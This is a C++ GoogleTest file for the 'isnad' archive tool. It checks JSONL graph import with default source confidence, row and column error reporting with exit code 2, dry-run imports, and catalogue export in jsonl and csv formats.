TEST(Import, ASourceWithNoConfidenceIsMedium) {
  TempDir tmp;
  std::vector<std::string> ids;
  auto a = ArchiveWithOneFile(tmp, &ids);
  WriteTestFile(tmp.Join("in/g.jsonl"),
                std::string(R"({"kind":"actor","type":"unit","ref":"a","names":{"en":"Unit A"}})") +
                    "\n" + R"({"kind":"actor","type":"unit","ref":"b","names":{"en":"Unit B"}})" +
                    "\n" + R"({"kind":"relation","subject":"a","predicate":"subordinate_of",)" +
                    R"("object":"b","sources":[{"item":")" + ids[0] + R"("}]})" + "\n");
  MustImport(*a, tmp.Join("in/g.jsonl"));
  auto rels = a->catalog().Relations("");
  ASSERT_TRUE(rels.ok());
  ASSERT_EQ(rels->size(), 1u);
  ASSERT_EQ(rels->front().sources.size(), 1u);
  EXPECT_EQ(rels->front().sources[0].confidence, "medium");
}

// ---------------------------------------------------------------- the commands

class ImportCli : public ::testing::Test {
 protected:
  void SetUp() override {
    archive_ = tmp_.Join("ar");
    ASSERT_EQ(Run({"init", "--name", "test.example/ar"}).exit_code, 0);
  }
  testing::RunResult Run(std::vector<std::string> args) {
    args.insert(args.begin(), {testing::IsnadBinary(), "--archive", archive_});
    return testing::RunProcess(args, {{"ISNAD_OPERATOR", "tester@test"}});
  }
  TempDir tmp_;
  std::string archive_;
};

TEST_F(ImportCli, ProblemsGoToStderrWithFileRowAndColumnAndExit2) {
  const std::string file = kData + "/bad-rows.csv";
  auto r = Run({"import", file});
  EXPECT_EQ(r.exit_code, 2) << r.err;
  EXPECT_EQ(r.out, "");
  EXPECT_NE(r.err.find(file + ":3: column path: no such file"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find(file + ":9: has 2 field(s)"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("10 problem(s)"), std::string::npos) << r.err;
  auto log = Run({"log", "--json"});
  EXPECT_EQ(std::count(log.out.begin(), log.out.end(), '\n'), 1) << log.out;

  auto j = Run({"import", file, "--json"});
  EXPECT_EQ(j.exit_code, 2);
  auto lines = Lines(j.out);
  ASSERT_EQ(lines.size(), 11u);
  EXPECT_EQ(lines[0]["row"].get<int>(), 3);
  EXPECT_EQ(lines[0]["column"].get<std::string>(), "path");
  EXPECT_FALSE(lines.back()["ok"].get<bool>());
}

TEST_F(ImportCli, ImportDryRunThenImportThenExport) {
  const std::string file = kData + "/graph.jsonl";
  auto dry = Run({"import", file, "--dry-run", "--json"});
  ASSERT_EQ(dry.exit_code, 0) << dry.err;
  auto d = Lines(dry.out);
  ASSERT_EQ(d.size(), 1u);
  EXPECT_TRUE(d[0]["dry_run"].get<bool>());
  EXPECT_EQ(d[0]["entities"].get<int>(), 9);

  auto imp = Run({"import", file});
  ASSERT_EQ(imp.exit_code, 0) << imp.err;
  EXPECT_NE(imp.out.find("2 new item(s)"), std::string::npos) << imp.out;

  auto out = Run({"export-catalog", "--format", "jsonl"});
  ASSERT_EQ(out.exit_code, 0) << out.err;
  const std::string target = tmp_.Join("catalogue.jsonl");
  auto to_file = Run({"export-catalog", "--out", target});
  ASSERT_EQ(to_file.exit_code, 0) << to_file.err;
  EXPECT_EQ(core::testing::ReadTestFile(target), out.out);
  auto csv = Run({"export-catalog", "--format", "csv"});
  ASSERT_EQ(csv.exit_code, 0) << csv.err;
  EXPECT_EQ(csv.out.substr(0, 3), "id,");
  EXPECT_EQ(Run({"export-catalog", "--format", "xml"}).exit_code, 2);
}

}  // namespace
}  // namespace isnad::archive
